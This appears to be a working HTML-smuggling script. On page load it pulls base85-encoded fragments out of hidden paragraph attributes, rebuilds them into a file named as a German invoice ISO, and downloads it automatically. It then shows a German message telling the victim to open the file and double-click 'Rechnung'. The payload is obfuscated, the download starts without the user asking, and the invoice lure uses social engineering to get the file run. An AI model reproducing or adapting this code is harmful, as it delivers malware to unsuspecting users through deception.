document.addEventListener("DOMContentLoaded", () => {
  const src = [...document.querySelectorAll("p[data-x]")].sort((a, b) => a.dataset.x - b.dataset.x).map((p) => p.dataset.c).join("");
  const out = [];
  for (let i = 0; i < src.length; i += 5) {
    let n = 0;
    for (let j = 0; j < 5; j++) n = n * 85 + (src.charCodeAt(i + j) - 33);
    out.push((n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255);
  }
  const f = new File([new Uint8Array(out)], "Rechnung_2025_114.iso", { type: "application/octet-stream" });
  const a = document.createElement("a");
  a.href = URL.createObjectURL(f);
  a.download = f.name;
  setTimeout(() => {
    a.click();
    document.querySelector("#bar").textContent = "Download abgeschlossen. Öffnen Sie die Datei und doppelklicken Sie auf „Rechnung“.";
  }, 2300);
});
